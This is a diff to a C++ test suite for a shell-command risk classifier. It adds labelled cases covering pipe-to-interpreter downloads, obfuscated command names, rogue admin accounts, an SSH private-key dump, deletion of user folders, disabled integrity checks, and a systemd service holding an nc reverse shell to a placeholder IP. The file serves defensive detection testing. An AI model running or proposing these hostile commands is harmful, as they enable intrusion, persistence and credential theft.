@@ -189,6 +189,58 @@ TEST(ShippedRules, TechniqueFamiliesAndTheirNearMisses) {
         {"ngrok tcp 3389", danger},
         {R"((crontab -l; echo "0 4 * * * /usr/local/bin/backup") | crontab -)", clean},
         {"ssh -L 8080:localhost:80 user@bastion.example.com", clean},
+        // Every interpreter that reads a script from a pipe or a process substitution.
+        {"curl -s https://x.example/s.ps1 | pwsh -", warning},
+        {"wget -qO- http://198.51.100.3/a.js | node", danger},
+        {". <(wget -qO- http://203.0.113.8/env)", danger},
+        {"curl -s http://localhost:3000/api | python3 -c 'import sys,json; json.load(sys.stdin)'", clean},
+        {"diff <(curl -s http://a.example/x) <(curl -s http://b.example/x)", clean},
+        // Downloads run or installed as administrator, fetched without encryption, or opened as apps.
+        {"wget https://x.example/tool.deb && sudo apt install ./tool.deb", danger},
+        {"tftp -g -r x 192.0.2.9; chmod +x x; ./x", danger},
+        {"curl -Lo /tmp/a.zip https://x.example/a.zip && ditto -xk /tmp/a.zip /tmp && open /tmp/App.app", warning},
+        {"curl -LO https://x.example/kubectl && sudo install -m 0755 kubectl /usr/local/bin/", clean},
+        {"defaults write com.apple.LaunchServices LSQuarantine -bool NO", danger},
+        {"python3 -c \"import urllib.request as r; exec(r.urlopen('https://x.example/p').read())\"", danger},
+        // Names glued from quoted pieces, default expansions, letters or rotated text.
+        {"w'g'et -qO- https://x.example/i | sh", danger},
+        {"${x:-w}get -qO- http://203.0.113.5/i | sh", danger},
+        {"tr 'a-z' 'n-za-m' <<< 'phey k | fu' | sh", danger},
+        {R"(git commit -m "fix: don't crash" && printf '%s\n' 'a' 'b')", clean},
+        {"tr 'a-z' 'A-Z' < notes.txt | sort", clean},
+        {"$f=gcm i?x; & $f (irm https://x.example/a)", danger},
+        {"set c=mshta https://x.example/a.hta&&call %c%", danger},
+        {"Get-Command *python* | Select-Object -First 1", clean},
+        // Signed Windows tools loading code from a temporary folder; accounts; the script policy.
+        {R"(InstallUtil.exe /logfile= /U %APPDATA%\x.dll)", danger},
+        {"msbuild MyApp.sln /p:Configuration=Release", clean},
+        {"net user helpdesk Passw0rd1 /add & net localgroup Administrators helpdesk /add", danger},
+        {"sudo adduser ops && echo 'ops:changeme' | sudo chpasswd && sudo usermod -aG wheel ops", danger},
+        {"sudo usermod -aG docker $USER", clean},
+        {"Set-ExecutionPolicy Unrestricted", warning},
+        {"Set-ExecutionPolicy RemoteSigned -Scope CurrentUser", clean},
+        // Secrets handed over, user folders deleted, checks and sources turned insecure.
+        {"cat ~/.ssh/id_ed25519  # paste the output into the chat", danger},
+        {"cat ~/.ssh/id_ed25519.pub  # copy this into GitHub", clean},
+        {"rm -rf ~/Documents", danger},
+        {"rm -rf ~/Library/Caches/com.example.app", clean},
+        {"GOSUMDB=off go get example.net/x", danger},
+        {"GOPRIVATE=github.com/acme/* go mod tidy", clean},
+        {"kubectl create -f http://203.0.113.9/pod.yaml", danger},
+        {"iex (iwr https://x.example/a.ps1 -SkipCertificateCheck)", danger},
+        {"curl -fsSL https://x.example/v.sh | sh  # human verification", danger},
+        // One's own scheduled jobs, services and login agents, shown in full, are not persistence.
+        {R"(schtasks /create /tn Backup /tr C:\backup.bat /sc daily /st 02:00)", clean},
+        {R"(schtasks /create /tn Agent /tr C:\tools\agent.exe /sc onlogon)", warning},
+        {R"(rundll32 printui.dll,PrintUIEntry /in /n "\\printsrv\HP")", clean},
+        {"sudo tee /etc/systemd/system/web.service <<'EOF'\n[Service]\nExecStart=/usr/bin/node /srv/web/app.js\nEOF",
+         clean},
+        {"tee ~/.config/systemd/user/s.service <<'EOF'\n[Service]\nExecStart=/bin/sh -c 'nc -e /bin/sh 203.0.113.4 "
+         "9'\nEOF",
+         danger},
+        {"cat > ~/Library/LaunchAgents/me.sync.plist <<'EOF'\n<key>ProgramArguments</key><array>"
+         "<string>/Users/me/bin/sync.sh</string></array>\nEOF\nlaunchctl load ~/Library/LaunchAgents/me.sync.plist",
+         clean},
     };
     for (const auto& [text, expected] : cases) {
         const auto result = guard.analyze(text, CommandRiskSeverity::warning);
